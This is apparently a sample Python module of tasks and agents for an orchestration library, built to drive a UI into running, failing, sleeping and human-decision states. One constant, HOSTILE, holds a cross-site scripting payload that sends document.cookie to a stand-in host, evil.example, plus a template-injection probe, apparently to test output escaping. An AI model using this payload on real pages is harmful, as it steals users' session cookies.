"""The programs of the sample home: agents and tasks that come into every state that a page shows."""

from __future__ import annotations

import asyncio
from pathlib import Path

import holdfast as hf

HOSTILE = "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\"><script>alert(1)</script>{{7*7}}'\""


async def answer(text: str) -> str:
    """The agent of the sample: says what it heard; if it is asked to wait, only after a while."""
    if text == "wait for me":
        await asyncio.sleep(120)
    return f"You said: {text}"


async def pick(number: int) -> dict[str, object]:
    return {"tree": number, "kind": "apple", "weight": 3.5 * number}


@hf.task
async def harvest(run: hf.Run, trees: int, note: str = "") -> dict[str, int]:
    """Turns, steps, an artifact and a decision; ends well."""
    picked: list[dict[str, object]] = run.list("picked", [])
    async for turn in run.turns(max=trees):
        picked.append(await turn.step(pick, turn.number))
        await run.progress(done=turn.number, total=trees, subtask=f"tree {turn.number}")
    await run.artifact(_write_report(trees))
    await run.decide(f"the harvest of {trees} trees is complete")
    return {"trees": trees}


def _write_report(trees: int) -> str:
    path = Path(f"harvest-{trees}.txt")
    path.write_text(f"{trees} trees\n", encoding="utf-8")
    return str(path)


@hf.task
async def tend(run: hf.Run, minutes: int) -> None:
    """Runs until it is cancelled: a step now and then."""
    async for turn in run.turns(max=minutes * 600):
        await run.progress(done=turn.number, total=minutes * 600, subtask="watering")
        await asyncio.sleep(0.5)


def _broken_pump(number: int) -> None:
    raise ConnectionAbortedError(f"pump {number} does not answer at 10.0.0.{number}")


@hf.task(attempts=1)
async def water(run: hf.Run, number: int) -> None:
    """Fails, each time with other numbers and for the same reason."""
    await run.step(_broken_pump, number)


@hf.task(attempts=1)
async def spray(run: hf.Run, field: str) -> None:
    await run.step(_no_licence, field)


def _no_licence(field: str) -> None:
    raise PermissionError(f"no licence for the field {field}")


@hf.tool(effect=hf.opaque)
async def order(amount: int, of: str) -> str:
    raise TimeoutError("the shop did not answer within 30 s")


@hf.task
async def buy(run: hf.Run, amount: int, of: str) -> str | None:
    """Its only effect times out, so a person has to decide."""
    return await run.tool(order, {"amount": amount, "of": of})


@hf.task
async def ask_owner(run: hf.Run, question: str) -> str:
    return str(await run.ask(question, ["yes", "no"]))


@hf.task
async def rest(run: hf.Run) -> None:
    await run.sleep("8h")


@hf.task(run_timeout="2s", smart_wake="always", wake_after="6h")
async def inspect(run: hf.Run) -> None:
    """Longer than one run may be: it is saved, and woken later."""
    await _watch(run)


@hf.task
async def graft(run: hf.Run, pair: int) -> str:
    return f"grafted {pair}"


@hf.task(attempts=1)
async def blight(run: hf.Run) -> None:
    raise ValueError("the leaves are brown")


@hf.task(attempts=1)
async def survey(run: hf.Run, item: hf.Item) -> dict[str, object]:
    number = int(str(item.id).rpartition("-")[2])
    if number % 9 == 0:
        raise ValueError(f"row {number} has no trees")
    if number > 40:
        # The rest of the campaign stays in flight, so that pages have something that runs.
        await run.sleep("1h") if number % 2 else await _watch(run)
    return {"trees": number * 3}


async def _watch(run: hf.Run) -> None:
    async for turn in run.turns(max=100_000):
        await run.progress(done=turn.number, subtask="counting")
        await asyncio.sleep(0.5)


@hf.task
async def prune(run: hf.Run, item: hf.Item) -> str:
    async for _ in run.stages(item):
        pass
    return "pruned"
